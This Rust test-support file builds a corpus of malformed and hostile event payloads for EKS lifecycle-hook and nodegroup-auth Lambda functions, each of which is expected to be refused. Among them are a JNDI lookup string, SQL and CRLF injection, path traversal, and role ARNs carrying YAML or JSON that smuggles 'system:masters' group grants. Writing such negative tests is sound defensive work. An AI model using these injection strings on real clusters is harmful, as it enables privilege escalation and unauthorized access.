//! Malformed and hostile payloads for the three functions, generated from the real-shaped
//! fixtures of `tests/fixtures/` plus the
//! hand-written files under `tests/corpus/<function>/`.
//!
//! Every payload here must be refused (an error) or acknowledged without effect: none may
//! lead to a Kubernetes write, a lifecycle completion, a heartbeat, a hand-over or an access
//! entry. The generators therefore only produce payloads that cannot name the reference
//! action correctly (or name it through a route that must be refused, e.g. another account).

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

/// The function a payload is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    TerminatingHook,
    LaunchingHook,
    NodegroupAuth,
    /// The scheduled node repair (no payload to speak of: its corpus is empty).
    NodeRepair,
}

impl Target {
    pub fn function_name(self) -> &'static str {
        match self {
            Self::TerminatingHook => "terminating-hook",
            Self::LaunchingHook => "launching-hook",
            Self::NodegroupAuth => "nodegroup-auth",
            Self::NodeRepair => "node-repair",
        }
    }
}

/// One payload of the corpus.
#[derive(Debug, Clone)]
pub struct BadPayload {
    /// `category/detail`, unique within a target: names the payload in a failure.
    pub name: String,
    pub event: Value,
}

impl BadPayload {
    fn new(name: impl Into<String>, event: Value) -> Self {
        Self {
            name: name.into(),
            event,
        }
    }
}

/// The repository root.
pub fn repository_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .map(Path::to_path_buf)
        .unwrap_or_default()
}

/// The project's event fixtures (`tests/fixtures/`).
pub fn fixtures_dir() -> PathBuf {
    repository_root().join("tests/fixtures")
}

/// A fixture, parsed. Panics with the path when missing: the corpus cannot be built without it.
pub fn fixture(name: &str) -> Value {
    let path = fixtures_dir().join(name);
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("fixture {}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("fixture {}: {e}", path.display()))
}

/// The fixture's SNS event with its `Message` replaced by `message` (a string).
pub fn with_message(event: &Value, message: &str) -> Value {
    let mut event = event.clone();
    event["Records"][0]["Sns"]["Message"] = Value::String(message.to_owned());
    event
}

/// The lifecycle message (parsed) of an SNS fixture event.
pub fn message_of(event: &Value) -> Value {
    event["Records"][0]["Sns"]["Message"]
        .as_str()
        .and_then(|m| serde_json::from_str(m).ok())
        .unwrap_or(Value::Null)
}

/// The SNS fixture for `target` with the notification's `Time` set to now, so the action's
/// global timeout lies ahead (like a real pending action).
pub fn fresh_lifecycle_event(target: Target) -> Value {
    let file = match target {
        Target::LaunchingHook => "sns-lifecycle-launching.json",
        _ => "sns-lifecycle-terminating.json",
    };
    let event = fixture(file);
    let mut message = message_of(&event);
    message["Time"] = json!(jiff::Timestamp::now().to_string());
    with_message(&event, &message.to_string())
}

/// Hostile strings for identifiers: injection attempts, wildcards, control characters,
/// lookalikes, and sizes far beyond any real value.
pub fn hostile_strings(real: &str) -> Vec<(String, String)> {
    vec![
        ("empty".into(), String::new()),
        ("space".into(), " ".into()),
        ("trailing-newline".into(), format!("{real}\n")),
        ("leading-space".into(), format!(" {real}")),
        ("nul".into(), format!("{real}\u{0}")),
        ("crlf-header".into(), format!("{real}\r\nX-Injected: yes")),
        ("uppercased".into(), real.to_uppercase()),
        ("wildcard".into(), "*".into()),
        ("glob".into(), format!("{}*", &real[..real.len().min(4)])),
        ("path-traversal".into(), format!("../{real}")),
        ("comma-list".into(), format!("{real},{real}")),
        (
            "yaml-doc".into(),
            format!("{real}\n---\nkind: ClusterRoleBinding"),
        ),
        ("json-break".into(), format!("{real}\"}}")),
        ("template".into(), "{{EC2PrivateDNSName}}".into()),
        ("jndi".into(), "${jndi:ldap://203.0.113.1/a}".into()),
        ("sql".into(), "' OR '1'='1".into()),
        ("cyrillic-lookalike".into(), lookalike(real)),
        ("zero-width".into(), format!("{real}\u{200b}")),
        (
            "huge-64k".into(),
            real.repeat(65_536 / real.len().max(1) + 1),
        ),
        ("huge-1m".into(), "x".repeat(1 << 20)),
    ]
}

/// `real` with one Latin letter swapped for its Cyrillic twin (always different from `real`).
fn lookalike(real: &str) -> String {
    for (latin, cyrillic) in [
        ('e', '\u{0435}'),
        ('a', '\u{0430}'),
        ('o', '\u{043e}'),
        ('c', '\u{0441}'),
        ('i', '\u{0456}'),
    ] {
        if real.contains(latin) {
            return real.replacen(latin, &cyrillic.to_string(), 1);
        }
    }
    format!("{real}\u{0430}")
}

/// Wrong JSON types for a field.
pub fn wrong_types() -> Vec<(&'static str, Value)> {
    vec![
        ("null", Value::Null),
        ("number", json!(42)),
        ("negative", json!(-1)),
        ("float", json!(1.5e300)),
        ("bool", json!(true)),
        ("array", json!(["x"])),
        ("object", json!({"x": 1})),
    ]
}

/// Envelopes that are not an SNS event at all.
fn non_events() -> Vec<BadPayload> {
    let mut out = Vec::new();
    for (name, value) in [
        ("null", Value::Null),
        ("true", json!(true)),
        ("zero", json!(0)),
        ("string", json!("autoscaling:EC2_INSTANCE_TERMINATING")),
        ("empty-object", json!({})),
        ("empty-array", json!([])),
        ("array-of-objects", json!([{}])),
        ("records-null", json!({"Records": null})),
        ("records-string", json!({"Records": "x"})),
        ("records-object", json!({"Records": {}})),
        ("records-empty", json!({"Records": []})),
        ("records-null-item", json!({"Records": [null]})),
        ("records-number-item", json!({"Records": [1]})),
        ("records-empty-item", json!({"Records": [{}]})),
        (
            "sns-null",
            json!({"Records": [{"EventSource": "aws:sns", "Sns": null}]}),
        ),
        (
            "sns-empty",
            json!({"Records": [{"EventSource": "aws:sns", "Sns": {}}]}),
        ),
        (
            "sns-array",
            json!({"Records": [{"EventSource": "aws:sns", "Sns": []}]}),
        ),
        (
            "sqs-record",
            json!({"Records": [{"eventSource": "aws:sqs", "body": "{}"}]}),
        ),
        (
            "s3-record",
            json!({"Records": [{"eventSource": "aws:s3", "s3": {}}]}),
        ),
        (
            "eventbridge-no-detail",
            json!({"source": "aws.autoscaling", "detail-type": "EC2 Instance-terminate Lifecycle Action"}),
        ),
        (
            "eventbridge-detail-string",
            json!({"source": "aws.autoscaling", "detail-type": "EC2 Instance-terminate Lifecycle Action", "detail": "x"}),
        ),
        (
            "eventbridge-other-source",
            json!({"source": "aws.ec2", "detail-type": "EC2 Instance State-change Notification", "detail": {"instance-id": "i-07e9ea9eb19a67337", "state": "terminated"}}),
        ),
        (
            "deeply-nested",
            serde_json::from_str(&format!("{}{}", "[".repeat(100), "]".repeat(100)))
                .unwrap_or(Value::Null),
        ),
    ] {
        out.push(BadPayload::new(format!("envelope/{name}"), value));
    }
    out
}

/// Payloads for a lifecycle hook function (`TerminatingHook` or `LaunchingHook`).
pub fn lifecycle_corpus(target: Target) -> Vec<BadPayload> {
    let base = fresh_lifecycle_event(target);
    let message = message_of(&base);
    let raw = base["Records"][0]["Sns"]["Message"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let mut out = non_events();

    // The Message itself is not the notification.
    for (name, value) in wrong_types() {
        let mut event = base.clone();
        event["Records"][0]["Sns"]["Message"] = value;
        out.push(BadPayload::new(format!("message-type/{name}"), event));
    }
    for (name, text) in [
        ("empty", String::new()),
        ("not-json", "Auto Scaling: lifecycle action".to_owned()),
        (
            "json-string",
            "\"autoscaling:EC2_INSTANCE_TERMINATING\"".to_owned(),
        ),
        ("json-array", format!("[{raw}]")),
        ("json-null", "null".to_owned()),
        ("double-encoded", Value::String(raw.clone()).to_string()),
        (
            "nested-500",
            format!("{}{}", "[".repeat(500), "]".repeat(500)),
        ),
        (
            "huge-garbage-prefix",
            format!("{}{raw}", "x".repeat(1 << 20)),
        ),
        ("trailing-garbage", format!("{raw}}}")),
        ("two-documents", format!("{raw}{raw}")),
        ("utf16-bom", format!("\u{feff}{raw}")),
    ] {
        out.push(BadPayload::new(
            format!("message-text/{name}"),
            with_message(&base, &text),
        ));
    }
    // Truncated at many places (never the whole document).
    let bytes = raw.len();
    let mut cut = 1;
    while cut < bytes {
        if raw.is_char_boundary(cut) {
            out.push(BadPayload::new(
                format!("truncated/{cut}"),
                with_message(&base, &raw[..cut]),
            ));
        }
        cut += 5;
    }

    // Required fields missing or of the wrong type.
    let required = [
        "LifecycleTransition",
        "AutoScalingGroupName",
        "EC2InstanceId",
        "LifecycleActionToken",
        "LifecycleHookName",
        "AccountId",
    ];
    for field in required {
        let mut m = message.clone();
        if let Some(object) = m.as_object_mut() {
            object.remove(field);
        }
        out.push(BadPayload::new(
            format!("missing/{field}"),
            with_message(&base, &m.to_string()),
        ));
        for (name, value) in wrong_types() {
            let mut m = message.clone();
            m[field] = value;
            out.push(BadPayload::new(
                format!("wrong-type/{field}/{name}"),
                with_message(&base, &m.to_string()),
            ));
        }
    }

    // Identifiers that do not name the pending action, or name it through a hostile route.
    for field in [
        "AutoScalingGroupName",
        "EC2InstanceId",
        "LifecycleHookName",
        "LifecycleActionToken",
    ] {
        let real = message[field].as_str().unwrap_or("x").to_owned();
        for (name, value) in hostile_strings(&real) {
            let mut m = message.clone();
            m[field] = json!(value);
            out.push(BadPayload::new(
                format!("hostile/{field}/{name}"),
                with_message(&base, &m.to_string()),
            ));
        }
    }
    // Forged but well-formed: another token / hook for the real instance and group.
    for (field, value) in [
        (
            "LifecycleActionToken",
            "00000000-0000-0000-0000-000000000000",
        ),
        ("LifecycleHookName", "Other-LC-Hook"),
    ] {
        let mut m = message.clone();
        m[field] = json!(value);
        out.push(BadPayload::new(
            format!("forged/{field}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // Other accounts.
    for account in [
        "222222222222",
        "000000000000",
        "11111111111",
        "1111111111111",
        "*",
    ] {
        let mut m = message.clone();
        m["AccountId"] = json!(account);
        out.push(BadPayload::new(
            format!("other-account/{account}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // A group this cluster does not own (the world seeds `foreign-asg`, tagged for another
    // cluster, with a pending action on the reference instance).
    for group in ["foreign-asg", "eks-other-cluster-ng", "untagged-asg"] {
        let mut m = message.clone();
        m["AutoScalingGroupName"] = json!(group);
        out.push(BadPayload::new(
            format!("other-group/{group}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // Transitions this function does not act on.
    let own = message["LifecycleTransition"].as_str().unwrap_or_default();
    let other = if own.ends_with("TERMINATING") {
        "autoscaling:EC2_INSTANCE_LAUNCHING"
    } else {
        "autoscaling:EC2_INSTANCE_TERMINATING"
    };
    for transition in [
        other.to_owned(),
        "autoscaling:EC2_INSTANCE_REBOOTING".to_owned(),
        "autoscaling:TEST_NOTIFICATION".to_owned(),
        own.to_lowercase(),
        format!(" {own}"),
        format!("{own}\n"),
        own.replace("autoscaling:", ""),
        own.replace("autoscaling:", "aws:"),
        "*".to_owned(),
        String::new(),
        "x".repeat(100_000),
    ] {
        let mut m = message.clone();
        m["LifecycleTransition"] = json!(transition);
        out.push(BadPayload::new(
            format!(
                "transition/{}",
                transition.chars().take(40).collect::<String>()
            ),
            with_message(&base, &m.to_string()),
        ));
    }
    // Warm-pool routes Auto Scaling never sends: unknown places, odd spellings, one end
    // missing, a route of the other transition, or none at all. Refused by name before any
    // call: acting on a guessed route could drain a node or undo a drain.
    let (other_route_origin, other_route_destination) = if own.ends_with("TERMINATING") {
        ("WarmPool", "AutoScalingGroup")
    } else {
        ("AutoScalingGroup", "WarmPool")
    };
    for (name, origin, destination) in [
        ("unknown-origin", Some(json!("Moon")), Some(json!("EC2"))),
        (
            "lowercase-destination",
            Some(json!("AutoScalingGroup")),
            Some(json!("warmpool")),
        ),
        (
            "spaced-destination",
            Some(json!("EC2")),
            Some(json!("Warm Pool")),
        ),
        (
            "padded-origin",
            Some(json!(" WarmPool")),
            Some(json!("EC2")),
        ),
        ("empty-origin", Some(json!("")), Some(json!("WarmPool"))),
        ("number-destination", Some(json!("EC2")), Some(json!(3))),
        (
            "array-origin",
            Some(json!(["WarmPool"])),
            Some(json!("EC2")),
        ),
        ("only-destination", None, Some(json!("WarmPool"))),
        ("only-origin", Some(json!("WarmPool")), None),
        (
            "pool-to-pool",
            Some(json!("WarmPool")),
            Some(json!("WarmPool")),
        ),
        ("ec2-to-ec2", Some(json!("EC2")), Some(json!("EC2"))),
        (
            "group-to-group",
            Some(json!("AutoScalingGroup")),
            Some(json!("AutoScalingGroup")),
        ),
        (
            "other-transition-route",
            Some(json!(other_route_origin)),
            Some(json!(other_route_destination)),
        ),
        (
            "huge-origin",
            Some(json!("W".repeat(100_000))),
            Some(json!("EC2")),
        ),
    ] {
        let mut m = message.clone();
        if let Some(object) = m.as_object_mut() {
            object.remove("Origin");
            object.remove("Destination");
        }
        if let Some(origin) = origin {
            m["Origin"] = origin;
        }
        if let Some(destination) = destination {
            m["Destination"] = destination;
        }
        out.push(BadPayload::new(
            format!("warm-pool/{name}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // Continuation counters that are not a count.
    for (name, value) in [
        ("negative", json!(-1)),
        ("string", json!("1")),
        ("huge", json!(u64::MAX)),
        ("float", json!(1.5)),
        ("object", json!({})),
    ] {
        let mut m = message.clone();
        m["NodeManagerContinuation"] = value;
        m["AccountId"] = json!("222222222222");
        out.push(BadPayload::new(
            format!("continuation/{name}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // Times that are not times, for another account's action.
    for (name, value) in [
        ("not-a-time", json!("yesterday")),
        ("number", json!(1_664_114_322)),
        ("year-0", json!("0000-01-01T00:00:00Z")),
        ("far-future", json!("9999-12-31T23:59:59Z")),
    ] {
        let mut m = message.clone();
        m["Time"] = value;
        m["AutoScalingGroupName"] = json!("foreign-asg");
        out.push(BadPayload::new(
            format!("time/{name}"),
            with_message(&base, &m.to_string()),
        ));
    }
    // Many records, each bad.
    let mut many = base.clone();
    let record = base["Records"][0].clone();
    let mut records = Vec::new();
    for i in 0..200 {
        let mut r = record.clone();
        r["Sns"]["Message"] = json!(format!("{{\"broken\": {i}"));
        records.push(r);
    }
    many["Records"] = Value::Array(records);
    out.push(BadPayload::new("records/200-broken", many));

    out.extend(corpus_files(target));
    out
}

/// Payloads for nodegroup-auth: CloudTrail events and direct requests.
pub fn nodegroup_auth_corpus() -> Vec<BadPayload> {
    let create = fixture("eventbridge-create-nodegroup.json");
    let delete = fixture("eventbridge-delete-nodegroup.json");
    let mut out = non_events();
    let set = |base: &Value, pointer: &str, value: Value| -> Value {
        let mut event = base.clone();
        if let Some(slot) = event.pointer_mut(pointer) {
            *slot = value;
        }
        event
    };
    let remove = |base: &Value, parent: &str, key: &str| -> Value {
        let mut event = base.clone();
        if let Some(Value::Object(object)) = event.pointer_mut(parent) {
            object.remove(key);
        }
        event
    };
    for (kind, base) in [("create", &create), ("delete", &delete)] {
        // Envelope fields.
        for (field, pointer) in [
            ("source", "/source"),
            ("detail-type", "/detail-type"),
            ("account", "/account"),
            ("region", "/region"),
            ("detail", "/detail"),
            ("eventName", "/detail/eventName"),
            ("eventSource", "/detail/eventSource"),
            ("requestParameters", "/detail/requestParameters"),
            ("nodegroupName", "/detail/requestParameters/nodegroupName"),
            ("clusterName", "/detail/requestParameters/name"),
        ] {
            let (parent, key) = pointer.rsplit_once('/').unwrap_or(("", pointer));
            let key = key.to_owned();
            if !matches!(field, "eventName" | "eventSource") {
                out.push(BadPayload::new(
                    format!("{kind}/missing/{field}"),
                    strip_response_cluster(remove(base, parent, &key), field),
                ));
            }
            for (name, value) in wrong_types() {
                out.push(BadPayload::new(
                    format!("{kind}/wrong-type/{field}/{name}"),
                    strip_response_cluster(set(base, pointer, value), field),
                ));
            }
        }
        for (name, value) in [
            ("aws.ec2", "aws.ec2"),
            ("aws.eks-suffix", "aws.eks.evil"),
            ("custom", "my.app"),
            ("upper", "AWS.EKS"),
        ] {
            out.push(BadPayload::new(
                format!("{kind}/source/{name}"),
                set(base, "/source", json!(value)),
            ));
        }
        for account in ["222222222222", "000000000000", "11111111111", "*", ""] {
            out.push(BadPayload::new(
                format!("{kind}/other-account/{account}"),
                set(base, "/account", json!(account)),
            ));
            let e = set(base, "/detail/recipientAccountId", json!(account));
            out.push(BadPayload::new(
                format!("{kind}/other-recipient/{account}"),
                set(&e, "/account", json!(account)),
            ));
        }
        for region in ["us-east-1", "eu-west-2", "cn-north-1", "", "*"] {
            let e = set(base, "/region", json!(region));
            out.push(BadPayload::new(
                format!("{kind}/other-region/{region}"),
                set(&e, "/detail/awsRegion", json!(region)),
            ));
        }
        for (name, cluster) in hostile_strings("ironman-2022").into_iter().chain([
            ("other".to_owned(), "other-cluster".to_owned()),
            ("prefix".to_owned(), "ironman".to_owned()),
            ("suffix".to_owned(), "ironman-2022-prod".to_owned()),
        ]) {
            let e = set(base, "/detail/requestParameters/name", json!(cluster));
            out.push(BadPayload::new(
                format!("{kind}/cluster/{name}"),
                set(
                    &e,
                    "/detail/responseElements/nodegroup/clusterName",
                    json!(cluster),
                ),
            ));
        }
        for (name, nodegroup) in hostile_strings("demo-ng") {
            let e = set(
                base,
                "/detail/requestParameters/nodegroupName",
                json!(nodegroup),
            );
            out.push(BadPayload::new(
                format!("{kind}/nodegroup/{name}"),
                set(
                    &e,
                    "/detail/responseElements/nodegroup/nodegroupName",
                    json!(nodegroup),
                ),
            ));
        }
        // A failed call is not an event to act on.
        let mut failed = base.clone();
        failed["detail"]["errorCode"] = json!("ResourceInUseException");
        failed["detail"]["errorMessage"] = json!("NodeGroup already exists");
        failed["detail"]["requestParameters"]["nodegroupName"] = json!("ghost-ng");
        failed["detail"]["responseElements"] = Value::Null;
        out.push(BadPayload::new(format!("{kind}/failed-call"), failed));
        for name in [
            "UpdateNodegroupConfig",
            "CreateCluster",
            "DescribeNodegroup",
            "",
        ] {
            out.push(BadPayload::new(
                format!("{kind}/event-name/{name}"),
                set(base, "/detail/eventName", json!(name)),
            ));
        }
    }
    // Event-supplied role ARNs and groups: for a node group that is gone (so the function
    // might be tempted to trust the event), and for the real one (whose role comes from
    // DescribeNodegroup).
    for (name, role) in hostile_role_arns() {
        for nodegroup in ["ghost-ng", "demo-ng"] {
            let mut e = set(
                &delete,
                "/detail/responseElements/nodegroup/nodeRole",
                json!(role),
            );
            e = set(
                &e,
                "/detail/requestParameters/nodegroupName",
                json!(nodegroup),
            );
            e = set(
                &e,
                "/detail/responseElements/nodegroup/nodegroupName",
                json!(nodegroup),
            );
            out.push(BadPayload::new(
                format!("delete/{nodegroup}/role/{name}"),
                e,
            ));
        }
        let mut e = set(
            &create,
            "/detail/responseElements/nodegroup/nodeRole",
            json!(role),
        );
        e = set(
            &e,
            "/detail/requestParameters/nodegroupName",
            json!("ghost-ng"),
        );
        e = set(
            &e,
            "/detail/responseElements/nodegroup/nodegroupName",
            json!("ghost-ng"),
        );
        out.push(BadPayload::new(format!("create/ghost-ng/role/{name}"), e));
    }
    for (name, groups) in [
        ("masters", json!(["system:masters"])),
        ("string", json!("system:masters")),
        ("wildcard", json!(["*"])),
    ] {
        let mut e = set(
            &create,
            "/detail/requestParameters/nodegroupName",
            json!("ghost-ng"),
        );
        e["detail"]["responseElements"]["nodegroup"]["groups"] = groups.clone();
        e["detail"]["requestParameters"]["kubernetesGroups"] = groups.clone();
        out.push(BadPayload::new(format!("create/event-groups/{name}"), e));
        out.push(BadPayload::new(
            format!("direct/groups/{name}"),
            json!({"clusterName": "ironman-2022", "nodegroupName": "demo-ng", "groups": groups}),
        ));
    }
    // Direct requests of the wrong shape.
    for (name, payload) in [
        ("no-cluster", json!({"nodegroupName": "demo-ng"})),
        (
            "cluster-number",
            json!({"clusterName": 1, "nodegroupName": "demo-ng"}),
        ),
        (
            "both",
            json!({"clusterName": "ironman-2022", "nodegroupName": "demo-ng", "reconcile": "all"}),
        ),
        ("neither", json!({"clusterName": "ironman-2022"})),
        (
            "reconcile-ALL",
            json!({"clusterName": "ironman-2022", "reconcile": "ALL"}),
        ),
        (
            "reconcile-star",
            json!({"clusterName": "ironman-2022", "reconcile": "*"}),
        ),
        (
            "reconcile-true",
            json!({"clusterName": "ironman-2022", "reconcile": true}),
        ),
        (
            "node-role",
            json!({"clusterName": "ironman-2022", "nodegroupName": "demo-ng", "nodeRole": "arn:aws:iam::111111111111:role/admin"}),
        ),
        (
            "rolearn",
            json!({"clusterName": "ironman-2022", "nodegroupName": "demo-ng", "rolearn": "arn:aws:iam::111111111111:role/admin"}),
        ),
        (
            "username",
            json!({"clusterName": "ironman-2022", "nodegroupName": "demo-ng", "username": "kubernetes-admin"}),
        ),
        (
            "foreign-cluster",
            json!({"clusterName": "other-cluster", "nodegroupName": "demo-ng"}),
        ),
        (
            "foreign-cluster-all",
            json!({"clusterName": "other-cluster", "reconcile": "all"}),
        ),
        (
            "ghost-nodegroup-foreign",
            json!({"clusterName": "other", "nodegroupName": "ghost-ng"}),
        ),
        (
            "nodegroup-array",
            json!({"clusterName": "ironman-2022", "nodegroupName": ["demo-ng"]}),
        ),
        (
            "nodegroup-null",
            json!({"clusterName": "ironman-2022", "nodegroupName": null}),
        ),
        (
            "snake-case",
            json!({"cluster_name": "ironman-2022", "nodegroup_name": "demo-ng"}),
        ),
    ] {
        out.push(BadPayload::new(format!("direct/{name}"), payload));
    }
    for (name, cluster) in hostile_strings("ironman-2022") {
        out.push(BadPayload::new(
            format!("direct/cluster/{name}"),
            json!({"clusterName": cluster, "nodegroupName": "demo-ng"}),
        ));
    }
    out.extend(corpus_files(Target::NodegroupAuth));
    out
}

/// When a field that names the cluster is removed or mistyped, the other copy of the
/// cluster name (in `responseElements`) is removed too, so the payload cannot be read
/// as valid through the copy (the function may prefer either).
fn strip_response_cluster(mut event: Value, field: &str) -> Value {
    if field == "requestParameters"
        && let Some(Value::Object(detail)) = event.pointer_mut("/detail")
    {
        detail.remove("responseElements");
    }
    if (field == "clusterName" || field == "nodegroupName")
        && let Some(Value::Object(nodegroup)) =
            event.pointer_mut("/detail/responseElements/nodegroup")
    {
        nodegroup.remove(field);
    }
    event
}

/// Role ARNs an attacker might put where a node role is expected.
pub fn hostile_role_arns() -> Vec<(String, String)> {
    let real = "arn:aws:iam::111111111111:role/eksctl-ironman-2022-nodegroup-demo-ng-NodeInstanceRole-454Q2XHJ5LZ0";
    vec![
        (
            "newline-groups".into(),
            format!("{real}\n  groups:\n  - system:masters"),
        ),
        (
            "yaml-item".into(),
            format!(
                "{real}\n- rolearn: arn:aws:iam::111111111111:role/evil\n  username: admin\n  groups: [system:masters]"
            ),
        ),
        (
            "yaml-flow".into(),
            format!("{real}, groups: [system:masters]}}"),
        ),
        (
            "json-quote".into(),
            format!("{real}\",\"groups\":[\"system:masters\"]"),
        ),
        ("masters".into(), "system:masters".into()),
        (
            "wildcard-role".into(),
            "arn:aws:iam::111111111111:role/*".into(),
        ),
        ("wildcard-account".into(), "arn:aws:iam::*:role/node".into()),
        (
            "assumed-role".into(),
            "arn:aws:sts::111111111111:assumed-role/node/i-07e9ea9eb19a67337".into(),
        ),
        ("user".into(), "arn:aws:iam::111111111111:user/cli".into()),
        ("root".into(), "arn:aws:iam::111111111111:root".into()),
        (
            "other-account".into(),
            "arn:aws:iam::222222222222:role/node".into(),
        ),
        (
            "other-partition".into(),
            "arn:aws-cn:iam::111111111111:role/node".into(),
        ),
        (
            "admin-role".into(),
            "arn:aws:iam::111111111111:role/admin".into(),
        ),
        (
            "template".into(),
            "arn:aws:iam::111111111111:role/{{SessionName}}".into(),
        ),
        ("empty".into(), String::new()),
        (
            "huge".into(),
            format!("arn:aws:iam::111111111111:role/{}", "n".repeat(100_000)),
        ),
        ("nul".into(), format!("{real}\u{0}")),
        ("not-arn".into(), "eksctl-node-role".into()),
    ]
}

/// The hand-written payloads under `tests/corpus/<function>/`: `*.json` files are events;
/// other files are message bodies, sent as the SNS `Message` (lifecycle functions) or as a
/// JSON string event.
pub fn corpus_files(target: Target) -> Vec<BadPayload> {
    let dir = repository_root()
        .join("tests/corpus")
        .join(target.function_name());
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = entries.filter_map(|e| e.ok()).map(|e| e.path()).collect();
    files.sort();
    let base = match target {
        Target::NodegroupAuth => None,
        other => Some(fresh_lifecycle_event(other)),
    };
    let mut out = Vec::new();
    for path in files {
        let Ok(bytes) = std::fs::read(&path) else {
            continue;
        };
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let name = format!(
            "file/{}",
            path.file_name().and_then(|n| n.to_str()).unwrap_or("?")
        );
        let is_json = path.extension().is_some_and(|e| e == "json");
        let event = match (is_json, serde_json::from_str::<Value>(&text), &base) {
            (true, Ok(value), _) => value,
            (_, _, Some(base)) => with_message(base, &text),
            (_, _, None) => Value::String(text),
        };
        out.push(BadPayload::new(name, event));
    }
    out
}
